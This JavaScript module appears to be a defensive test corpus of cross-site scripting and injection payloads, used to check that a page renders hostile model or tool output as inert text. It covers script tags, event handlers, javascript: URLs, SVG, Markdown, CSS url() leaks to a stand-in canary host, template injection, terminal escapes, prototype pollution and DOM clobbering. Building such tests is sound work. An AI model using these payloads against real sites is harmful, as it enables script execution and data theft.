// What a hostile model, tool or client may say: texts that would run, load or build something if any place in
// the page took them for more than text. Written for this project, after the classes that OWASP's cheat sheets
// and the HTML, SVG, CommonMark and ECMA-48 standards name.
//
// In each: MARK is the text by which a rendering is found, HIT a call that tells that a script ran, CANARY the
// address of a server that nobody may ask.

const SCRIPTS = [
  "MARK <script>HIT</script>",
  "<script>HIT</script> MARK",
  'MARK "><script>HIT</script>',
  "MARK </textarea><script>HIT</script>",
  "MARK </title><script>HIT</script>",
  "MARK </style><script>HIT</script>",
  "MARK </script><script>HIT</script>",
  "MARK --><script>HIT</script><!--",
  "MARK <![CDATA[<script>HIT</script>]]>",
  "MARK <SCRIPT>HIT</SCRIPT>",
  "MARK <script src=CANARY></script>",
  "MARK <script src=//CANARY_HOST/MARK></script>",
  "MARK <script type=module>import 'CANARY'</script>",
  "MARK <scr<script>ipt>HIT</scr</script>ipt>",
  "MARK <script\n>HIT</script\n>",
  "MARK <noscript><p title='</noscript><script>HIT</script>'>",
];

const HANDLERS = [
  "MARK <img src=x onerror=HIT>",
  'MARK "><img src=x onerror=HIT>',
  'MARK " onmouseover="HIT" autofocus onfocus="HIT" x="',
  "MARK ' onmouseover='HIT' autofocus onfocus='HIT' x='",
  "MARK <img src=x:x onerror=HIT//",
  "MARK <IMG SRC=x ONERROR=HIT>",
  "MARK <img/src=x/onerror=HIT>",
  "MARK <img src=x\nonerror\n=\nHIT>",
  "MARK <body onload=HIT>",
  "MARK <body onpageshow=HIT onresize=HIT>",
  "MARK <input autofocus onfocus=HIT>",
  "MARK <select autofocus onfocus=HIT><option>x</select>",
  "MARK <textarea autofocus onfocus=HIT>x</textarea>",
  "MARK <details open ontoggle=HIT><summary>x</summary></details>",
  "MARK <video src=x onerror=HIT></video>",
  "MARK <video><source onerror=HIT></video>",
  "MARK <marquee onstart=HIT>x</marquee>",
  "MARK <p style=animation:x onanimationstart=HIT onanimationend=HIT>x</p>",
  "MARK <div onpointerrawupdate=HIT onpointerenter=HIT onwheel=HIT>x</div>",
  "MARK <div popover id=zqid-popover onbeforetoggle=HIT>x</div><button popovertarget=zqid-popover>x</button>",
  "MARK <p contenteditable onbeforeinput=HIT oncut=HIT oncopy=HIT>x</p>",
  "MARK <xss tabindex=1 autofocus onfocusin=HIT>x</xss>",
  "MARK <dialog open onclose=HIT><form method=dialog><button autofocus>x</button></form></dialog>",
];

const ADDRESSES = [
  "javascript:HIT//MARK",
  "JaVaScRiPt:HIT//MARK",
  "java\tscript:HIT//MARK",
  "java\nscript:HIT//MARK",
  "\u0001javascript:HIT//MARK",
  "javascript://MARK%0AHIT",
  "javascript:/*MARK*/HIT",
  'MARK <a href="javascript:HIT">x</a>',
  "MARK <a href='java&#x09;script:HIT'>x</a>",
  'MARK <a href="data:text/html,<script>HIT</script>">x</a>',
  "data:text/html,MARK<script>HIT</script>",
  "data:text/html;base64,PHNjcmlwdD5fX2NhbmFyeSgxKTwvc2NyaXB0Pg==#MARK",
  "vbscript:HIT'MARK",
  "blob:CANARY",
  "file:///etc/passwd#MARK",
  "view-source:CANARY",
  "CANARY",
  "//CANARY_HOST/MARK",
];

const DRAWINGS = [
  "MARK <svg onload=HIT>",
  "MARK <svg><script>HIT</script></svg>",
  "MARK <svg><script href=CANARY /></svg>",
  "MARK <svg><script xlink:href=CANARY /></svg>",
  "MARK <svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
  "MARK <svg><set onbegin=HIT attributeName=x></svg>",
  "MARK <svg><a><animate attributeName=href values=javascript:HIT /><text y=20>x</text></a></svg>",
  "MARK <svg><a xlink:href=javascript:HIT><text y=20>x</text></a></svg>",
  "MARK <svg><image href=CANARY /></svg>",
  "MARK <svg><use href='CANARY#x' /></svg>",
  "MARK <svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>HIT</script></svg>#x\" /></svg>",
  "MARK <svg><foreignObject><iframe srcdoc='<script>parent.HIT</script>'></iframe></foreignObject></svg>",
  "MARK <svg><style><img src=x onerror=HIT></style></svg>",
  "MARK <svg></p><style><g title='</style><img src=x onerror=HIT>'>",
  "MARK <svg><feImage href=CANARY /></svg>",
  "MARK <math><mtext><table><mglyph><style><img src=x onerror=HIT></style></mglyph></table></mtext></math>",
  "MARK <math href=javascript:HIT>x</math>",
  "MARK <math><annotation-xml encoding=text/html><img src=x onerror=HIT></annotation-xml></math>",
];

const MARKDOWN = [
  "[MARK](javascript:HIT)",
  "[MARK](JAVASCRIPT:HIT)",
  "[MARK](java&#115;cript:HIT)",
  "[MARK](javascript&colon;HIT)",
  "[MARK](<javascript:HIT>)",
  "[MARK](\u0001javascript:HIT)",
  "[MARK](data:text/html;base64,PHNjcmlwdD5fX2NhbmFyeSgxKTwvc2NyaXB0Pg==)",
  "[MARK](file:///etc/passwd)",
  '[MARK](CANARY "title")',
  '[MARK](CANARY "x\\" onmouseover=\\"HIT")',
  "MARK ![x](CANARY)",
  "![MARK](CANARY)",
  "![MARK](javascript:HIT)",
  "![MARK](x\" onerror=\"HIT)",
  "![MARK](data:image/svg+xml;utf8,<svg/onload=HIT>)",
  "[![MARK](CANARY)](javascript:HIT)",
  "MARK ![x][ref]\n\n[ref]: CANARY",
  "[MARK][ref]\n\n[ref]: javascript:HIT",
  '[MARK][ref]\n\n[ref]: CANARY "x\' onerror=\'HIT"',
  "[MARK]\n\n[MARK]: javascript:HIT",
  "MARK <javascript:HIT>",
  "MARK <CANARY>",
  "MARK CANARY www.example.com mailto:a@example.com",
  "MARK\n\n<img src=CANARY onerror=HIT>",
  "MARK\n\n<div>\n<script>HIT</script>\n</div>",
  "MARK `<img src=x onerror=HIT>`",
  "```\nMARK <img src=x onerror=HIT>\n```",
  "```html\" onmouseover=\"HIT\nMARK <img src=CANARY>\n```",
  "```\"><img/src=x/onerror=HIT>\nMARK\n```",
  "| MARK | <img src=x onerror=HIT> |\n|---|---|\n| [x](javascript:HIT) | ![x](CANARY) |",
  "> MARK\n> - <img src=x onerror=HIT>\n>   1. [x](javascript:HIT)",
  "- [x] MARK <input autofocus onfocus=HIT>",
  "# MARK {#zqid-heading onclick=HIT}",
  "MARK[^1]\n\n[^1]: <img src=x onerror=HIT>",
];

const STYLES = [
  "MARK <style>@import 'CANARY'</style>",
  "MARK <style>body{background:url(CANARY)}</style>",
  "MARK <style>@font-face{font-family:x;src:url(CANARY)}*{font-family:x!important}</style>",
  "MARK <style>input[value^=a]{background:url(CANARY)}</style>",
  "MARK <p style='background:url(CANARY)'>x</p>",
  "MARK <p style='background-image:image-set(\"CANARY\" 1x)'>x</p>",
  "MARK <p style='content:url(CANARY);cursor:url(CANARY),auto;list-style:url(CANARY)'>x</p>",
  'MARK "; background:url(CANARY); x:"',
  "MARK ;}*{background:url(CANARY)}",
  "MARK <div style='position:fixed;inset:0;z-index:2147483647;background:red'>x</div>",
  "MARK <div style='behavior:url(CANARY);-moz-binding:url(CANARY);width:expression(HIT)'>x</div>",
];

const TEMPLATES = [
  "MARK {{constructor.constructor('HIT')()}}",
  "MARK {{7*7}}${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
  "MARK ${HIT}",
  "MARK {@html '<img src=x onerror=HIT>'}",
  "MARK {#if true}{HIT}{/if}",
  "MARK {HIT}",
  "MARK <svelte:head><script>HIT</script></svelte:head>",
  "MARK <svelte:window onload={() => HIT} />",
  "MARK <div use:x bind:this={x} on:click={HIT}>x</div>",
  "MARK <div v-html=\"'<img src=x onerror=HIT>'\" x-init=HIT ng-init=HIT hx-get=CANARY hx-trigger=load>x</div>",
  "MARK <div ng-app>{{$on.constructor('HIT')()}}</div>",
  "MARK <template><script>HIT</script></template>",
  "MARK <div><template shadowrootmode=open><img src=x onerror=HIT></template></div>",
];

const CHARACTERS = [
  "MARK \u202e<img src=x onerror=HIT>\u202c",
  "MARK \u2066<script>HIT</script>\u2069",
  "MARK \u0000<script>HIT</script>",
  "MARK <scr\u0000ipt>HIT</scr\u0000ipt>",
  "MARK <img\u000bsrc=x\u000conerror=HIT>",
  "MARK \u2028<script>HIT</script>\u2029",
  "MARK \ud83d<script>HIT</script>",
  "MARK \udc00<img src=x onerror=HIT>\ud800",
  "MARK \ufeff<script>HIT</script>\ufffe",
  "MARK \u200b<img src=x onerror=HIT>\u200d\u2060",
  "MARK \uff1cscript\uff1eHIT\uff1c/script\uff1e",
  "MARK \u02bcscript\u02bc \u2039script\u203aHIT",
  "MARK +ADw-script+AD4-HIT+ADw-/script+AD4-",
  "MARK %3Cscript%3EHIT%3C/script%3E %253Cscript%253E",
  "MARK \\u003cscript\\u003eHIT\\u003c/script\\u003e \\x3cimg src=x onerror=HIT\\x3e",
  "MARK " + "e\u0301\u0323\u0338".repeat(60) + "<img src=x onerror=HIT>",
  "MARK \u0007\u0008\u007f\u0085\u009b<script>HIT</script>",
  "MARK \u{e0041}\u{e0042}<script>HIT</script>\u{10ffff}",
];

const TERMINAL = [
  "MARK \u001b[31m<img src=x onerror=HIT>\u001b[0m",
  "MARK \u001b]8;;javascript:HIT\u001b\\x\u001b]8;;\u001b\\",
  "MARK \u001b]8;;CANARY\u0007x\u001b]8;;\u0007",
  "MARK \u001b]52;c;X19jYW5hcnkoMSk=\u0007",
  "MARK \u001b[2J\u001b[H\u001b]0;<script>HIT</script>\u0007",
  "MARK \u001b[38;2;1;2;3;url(CANARY)m x \u001b[999999999999m",
  "MARK \u009b31m<script>HIT</script>\u009d8;;CANARY\u009c",
  "MARK \u001bP<img src=x onerror=HIT>\u001b\\ \u001b_x\u001b\\ \u001b^x",
];

const PROTOTYPES = [
  '{"__proto__":{"zqpolluted":"MARK"}}',
  '{"constructor":{"prototype":{"zqpolluted":"MARK"}}}',
  "__proto__.zqpolluted=MARK",
  "__proto__[zqpolluted]=MARK&constructor[prototype][zqpolluted]=MARK",
  '{"toString":"MARK","valueOf":"MARK","hasOwnProperty":"MARK","then":"MARK"}',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"HIT","x":"MARK"}}',
  '{"toJSON":null,"length":4294967295,"x":"MARK"}',
  '[{"type":"text","text":"MARK","__proto__":{"type":"image"}}]',
];

const LONG = [
  "MARK " + "A".repeat(70_000) + "<script>HIT</script>",
  "MARK " + "<".repeat(5_000) + "img src=x onerror=HIT>",
  "MARK " + "<b>".repeat(3_000) + "<img src=x onerror=HIT>",
  "MARK\n" + ">".repeat(3_000) + " <img src=x onerror=HIT>",
  "MARK " + "[".repeat(3_000) + "x](javascript:HIT)",
  "MARK " + "*a **b ".repeat(1_500) + "<img src=x onerror=HIT>",
  "MARK\n" + Array.from({ length: 120 }, (_, depth) => `${"  ".repeat(depth)}- <img src=x onerror=HIT>`).join("\n"),
  "MARK " + "![x](CANARY)".repeat(300),
  "MARK " + "`".repeat(2_000) + "<img src=x onerror=HIT>",
  "MARK " + "| x ".repeat(500) + "|\n" + "|---".repeat(500) + "|\n" + "| <img src=x onerror=HIT> ".repeat(500) + "|",
];

const ENTITIES = [
  "MARK &lt;script&gt;HIT&lt;/script&gt;",
  "MARK &#60;img src=x onerror=HIT&#62;",
  "MARK &#x3c;script&#x3e;HIT&#x3c;/script&#x3e;",
  "MARK &#0000060script&#0000062HIT",
  "MARK &amp;lt;script&amp;gt;HIT",
  "MARK &ltscript&gtHIT&lt/script&gt",
  'MARK <a href="&#106;avascript&#58;HIT">x</a>',
  "MARK &NewLine;&Tab;&lpar;&rpar;&quot; onmouseover=&quot;HIT",
  "MARK <img src=x onerror=&#95;&#95;canary(1)>",
  "MARK &bsol;u003cscript&bsol;u003e &nvlt;script&nvgt;",
];

const DOCUMENTS = [
  "MARK <meta http-equiv=refresh content='0;url=CANARY'>",
  "MARK <meta http-equiv=refresh content='0;url=javascript:HIT'>",
  "MARK <meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
  "MARK <base href=CANARY/>",
  "MARK <link rel=stylesheet href=CANARY>",
  "MARK <link rel=prefetch href=CANARY><link rel=preload as=image href=CANARY>",
  "MARK <link rel=dns-prefetch href=//CANARY_HOST><link rel=preconnect href=//CANARY_HOST>",
  "MARK <link rel=modulepreload href=CANARY><link rel=prerender href=CANARY>",
  "MARK <script type=importmap>{\"imports\":{\"x\":\"CANARY\"}}</script>",
  "MARK <script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"CANARY\"]}]}</script>",
  "MARK <iframe src=javascript:HIT></iframe>",
  "MARK <iframe src=CANARY></iframe>",
  "MARK <iframe srcdoc='<script>parent.HIT</script>'></iframe>",
  "MARK <iframe srcdoc='&lt;img src=CANARY&gt;'></iframe>",
  "MARK <object data=CANARY></object>",
  "MARK <object data='data:text/html,<script>parent.HIT</script>'></object>",
  "MARK <embed src=CANARY>",
  "MARK <frameset><frame src=javascript:parent.HIT></frameset>",
  "MARK <form action=CANARY><button autofocus>x</button><input name=zqid-field></form>",
  "MARK <button form=zqid-form formaction=javascript:HIT>x</button><form id=zqid-form></form>",
  "MARK <img src=CANARY><img srcset='CANARY 1x'><picture><source srcset=CANARY><img></picture>",
  "MARK <table background=CANARY><td background=CANARY>x</table>",
  "MARK <video poster=CANARY></video><audio src=CANARY autoplay></audio><track src=CANARY>",
  "MARK <a href=CANARY ping=CANARY download target=_blank>x</a><area href=javascript:HIT>",
  "MARK <!--[if true]><script>HIT</script><![endif]--><?xml-stylesheet href='CANARY'?>",
  "MARK <!DOCTYPE html [<!ENTITY x SYSTEM 'CANARY'>]><html xmlns='http://www.w3.org/1999/xhtml'>&x;</html>",
];

const CLOBBERS = [
  "MARK <a id=zqid-a name=__canary href=CANARY>x</a>",
  "MARK <form id=zqid-b name=body><input name=attributes><input name=parentNode></form>",
  "MARK <img id=zqid-c name=getElementById>",
  "MARK <input id=zqid-d name=cookie><img name=currentScript src=CANARY>",
  "MARK <a id=location href=javascript:HIT>x</a><a id=location name=href href=CANARY>x</a>",
  "MARK <div id=app class='hidden'></div>",
  "MARK <object id=zqid-e name=fetch data=CANARY></object>",
];

const CATEGORIES = {
  script: SCRIPTS, handler: HANDLERS, address: ADDRESSES, drawing: DRAWINGS, markdown: MARKDOWN, style: STYLES, template: TEMPLATES,
  character: CHARACTERS, terminal: TERMINAL, prototype: PROTOTYPES, long: LONG, entity: ENTITIES, document: DOCUMENTS, clobber: CLOBBERS,
};

/** All payloads, with the class that each is of. */
export const PAYLOADS = Object.entries(CATEGORIES).flatMap(([category, texts]) => texts.map((text) => ({ category, text })));

/** A payload's text for one place: `mark` is found in it, `canary` is the origin that must never be asked. */
export function loaded(payload, mark, canary) {
  return payload.text
    .replaceAll("CANARY_HOST", new URL(canary).host)
    .replaceAll("CANARY", `${canary}/MARK`)
    .replaceAll("HIT", "__canary(1)")
    .replaceAll("MARK", mark);
}
